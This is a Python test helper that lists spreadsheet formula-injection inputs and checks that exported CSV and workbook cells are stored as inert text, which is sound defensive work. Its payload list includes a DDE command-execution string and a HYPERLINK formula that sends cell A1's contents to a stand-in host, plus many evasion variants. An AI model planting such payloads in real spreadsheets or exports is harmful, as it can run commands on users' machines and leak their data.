"""Texts that a spreadsheet would run, and how a test tells that a cell runs: written apart from the product's own."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from io import BytesIO, StringIO

from openpyxl import load_workbook

TEXTS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://bet.example.com/?x="&A1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    "''=1+1",
)
PLAIN = ("教育局", "1-2", "a=b", "", "'引号'", "'", "“=1”", "2026-11-22", "1" * 30)
_STARTS = "=+-@＝＋－＠"
_PASSED_OVER = "".join(map(chr, range(33))) + "\u00a0\u3000\ufeff\u200b"


def runs(text: str) -> bool:
    """True for a text that Excel, WPS or LibreOffice might run, or whose own control characters might hide that."""
    if re.fullmatch(r"-[0-9]+(\.[0-9]+)?", text):
        return False  # a number below zero
    return text[:1] in ("\t", "\r", "\n") or text.lstrip(_PASSED_OVER)[:1] in tuple(_STARTS)


def cells_of(content: bytes) -> Iterator[str]:
    """Every text of a csv or a workbook. A cell of a workbook that is no plain text or number is an error."""
    if not content.startswith(b"PK"):
        for row in csv.reader(StringIO(content.decode("utf-8-sig"), newline="")):
            yield from row
        return
    for sheet in load_workbook(BytesIO(content)).worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                if cell.value is None:
                    continue
                assert cell.data_type in ("s", "n"), (
                    f"{sheet.title}!{cell.coordinate} is {cell.data_type}: {cell.value!r}"
                )
                if cell.data_type == "s":
                    assert cell.number_format == "@", f"{sheet.title}!{cell.coordinate} is no text cell"
                    yield str(cell.value)
